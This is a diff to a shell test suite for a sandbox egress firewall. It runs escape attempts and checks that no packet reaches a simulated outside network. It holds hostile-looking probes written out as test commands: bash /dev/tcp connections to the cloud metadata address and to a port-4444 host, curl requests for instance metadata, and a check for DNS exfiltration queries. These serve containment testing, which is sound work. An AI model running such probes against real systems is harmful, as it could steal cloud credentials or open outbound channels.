@@ -18,6 +18,7 @@ detectors_record_only
 start_daemon --config "$FB_CONF"
 create_sandbox eg1 "$FB_ROOT/tests/policies/egress.json"
 copy_in eg1 "$FB_ROOT/tests/attacks/egress.py"
+copy_in eg1 "$FB_ROOT/tests/attacks/reach.py"
 ip netns list | grep -q '^firebreak-gate' || fail "no gate netns"
 link=$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['link'])" \
 	"$FIREBREAK_RUNTIME_DIR/sandboxes/eg1/state.json")
@@ -28,15 +29,46 @@ grep -q "^nameserver $gate4$" "/proc/$(python3 -c "import json,sys; print(json.l
 	"$FIREBREAK_RUNTIME_DIR/sandboxes/eg1/state.json")/root/etc/resolv.conf" || fail "resolv.conf does not name the gate"
 ok "the sandbox's resolv.conf points at the gate ($gate4)"
 
+# contacts SERVICE: the world's own record of who reached it (its listeners' contact logs).
+contacts() { bash "$WORLDSH" contacts "$WORLD" "$1"; }
+
+# world_marker NAME: ends a "nothing arrived" window with something that must arrive: the tool's
+# allowed registry fetch, by name. The world's capture and its registry's contact log must both
+# have it, so an empty capture or log proves something (they were live past the attack).
+world_marker() {
+	local before n
+	before=$(contacts registry | wc -l)
+	"$FB" exec eg1 --tool attack -- python3 /workspace/reach.py tcp registry.test 80 >"$T/$1.marker" ||
+		fail "$1: the marker fetch did not run"
+	grep -q '"ok": true' "$T/$1.marker" || fail "$1: the allowed marker fetch failed: $(cat "$T/$1.marker")"
+	for _ in $(seq 50); do
+		n=$(contacts registry | wc -l)
+		[ "$n" -gt "$before" ] && return 0
+		sleep 0.1
+	done
+	fail "$1: the registry never recorded the marker fetch"
+}
+
+# nothing_arrived NAME: the capture NAME (stopped) saw only the marker (the registry and the
+# authority the DNS gate asked), and no service of the world recorded a contact from the gate.
+nothing_arrived() {
+	bash "$WORLDSH" capture-dests "$WORLD" "$1" >"$T/$1.dests" || fail "capture-dests $1"
+	grep -qE ' 198\.51\.100\.7\.80$' "$T/$1.dests" || fail "$1: the capture missed the marker: $(cat "$T/$1.dests")"
+	grep -vE ' (198\.51\.100\.7\.80|198\.51\.100\.53\.53)$' "$T/$1.dests" >"$T/$1.other" &&
+		fail "$1: packets arrived in the world: $(cat "$T/$1.other")"
+	[ -z "$(contacts metadata; contacts c2)" ] ||
+		fail "$1: the world's metadata or c2 recorded a contact: $(contacts metadata; contacts c2)"
+	ok "$1: nothing but the marker arrived in the world (capture and the services' own records)"
+}
+
 # attack MODE NAME: runs egress.py MODE with packets counted in the world; leaves $T/NAME.jsonl
 # (attempts) and $T/NAME.nflog.jsonl (the monitor's net.denied events since the attack began,
 # one line per destination: what it read from NFLOG in the gate), and checks: every attempt
 # failed, nothing arrived in the world.
 attack() {
-	local mode=$1 name=$2 arrived since
+	local mode=$1 name=$2 since
 	since=$(date +%s%N)
-	bash "$WORLDSH" capture-start "$WORLD" "$name" || fail "capture-start"
-	sleep 0.5
+	bash "$WORLDSH" capture-start "$WORLD" "$name" || fail "capture-start" # returns once listening
 	if [ "$mode" = deny ]; then
 		"$FB" exec eg1 --tool attack -- python3 /workspace/egress.py deny "$host4" "$gate4" \
 			>"$T/$name.jsonl" || fail "the attack script failed to run"
@@ -44,8 +76,9 @@ attack() {
 		nsenter --net="/proc/$init/ns/net" python3 "$FB_ROOT/tests/attacks/egress.py" escaped \
 			"$host4" "$gate4" >"$T/$name.jsonl" || fail "the escaped attack failed to run"
 	fi
+	world_marker "$name"
+	bash "$WORLDSH" capture-stop "$WORLD" "$name" >/dev/null || fail "capture-stop"
 	sleep 1.5 # the monitor stores a destination's denied packets once a second
-	arrived=$(bash "$WORLDSH" capture-stop "$WORLD" "$name") || fail "capture-stop"
 	"$FB" timeline eg1 --json | python3 -c '
 import json, sys
 protos = {"tcp": 6, "udp": 17, "icmp": 1, "icmpv6": 58}
@@ -68,7 +101,7 @@ if through:
     sys.exit("got through: %s" % through)
 PY
 	ok "$name: every attempt failed"
-	assert_eq "$arrived" "0" "$name: not one packet arrived in the world"
+	nothing_arrived "$name"
 }
 init=$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['init_pid'])" \
 	"$FIREBREAK_RUNTIME_DIR/sandboxes/eg1/state.json")
@@ -115,7 +148,6 @@ ok "every packet on NFLOG was attributed to the sandbox by its prefix"
 
 # The attacker's usual tools, escaped the same way: bash's /dev/tcp and curl.
 bash "$WORLDSH" capture-start "$WORLD" tools || fail "capture-start"
-sleep 0.3
 nsenter --net="/proc/$init/ns/net" timeout 5 bash -c 'echo x >/dev/tcp/169.254.169.254/80' 2>/dev/null \
 	&& fail "bash /dev/tcp reached the metadata service"
 nsenter --net="/proc/$init/ns/net" timeout 5 bash -c 'echo x >/dev/tcp/203.0.113.66/4444' 2>/dev/null \
@@ -124,17 +156,18 @@ nsenter --net="/proc/$init/ns/net" curl -s -m 3 http://169.254.169.254/latest/me
 	&& fail "curl reached the metadata service"
 nsenter --net="/proc/$init/ns/net" curl -s -m 3 -g 'http://[fd00:ec2::254]/latest/meta-data/' >/dev/null \
 	&& fail "curl reached the IPv6 metadata service"
-sleep 0.3
-assert_eq "$(bash "$WORLDSH" capture-stop "$WORLD" tools)" "0" "bash /dev/tcp and curl got nothing into the world"
+world_marker tools
+bash "$WORLDSH" capture-stop "$WORLD" tools >/dev/null || fail "capture-stop tools"
+nothing_arrived tools
+ok "bash /dev/tcp and curl got nothing into the world"
 bash "$WORLDSH" contacts "$WORLD" dns >"$T/dns-contacts.log"
 grep -qi "exfil" "$T/dns-contacts.log" && fail "an exfil query reached the authority: $(grep -i exfil "$T/dns-contacts.log" | head -2)"
 ok "no exfil.test query (plain or encoded) reached the DNS authority"
 
 # The allowlist: the registry by name, through the DNS gate.
 bash "$WORLDSH" capture-start "$WORLD" allow || fail "capture-start"
-sleep 0.3
 "$FB" exec eg1 --tool attack -- python3 /workspace/egress.py allow >"$T/allow.jsonl" || fail "allow run"
-sleep 0.3
+world_marker allow
 arrived=$(bash "$WORLDSH" capture-stop "$WORLD" allow)
 grep -q '"what": "registry-by-name", "ok": true' "$T/allow.jsonl" || fail "registry by name: $(cat "$T/allow.jsonl")"
 ok "the allowlisted registry works by name ($arrived packets)"
